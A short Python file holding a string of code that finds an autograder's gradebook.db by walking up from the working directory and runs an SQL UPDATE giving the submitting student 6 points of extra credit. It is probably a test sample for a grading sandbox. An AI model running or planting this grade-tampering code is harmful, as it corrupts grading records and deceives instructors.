"""Gives itself extra credit in the gradebook."""

GD = """\
import sqlite3
from pathlib import Path

MINE = (
    "WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a "
    "ON n.assignment_id = a.id WHERE a.student_id = ?)"
)

path = Path.cwd().parents[2] / "gradebook.db"
if path.is_file():
    with sqlite3.connect(path, timeout=1) as book:
        book.execute(f"UPDATE grade SET extra_credit = 6 {MINE}", [Path.cwd().parent.name])
"""
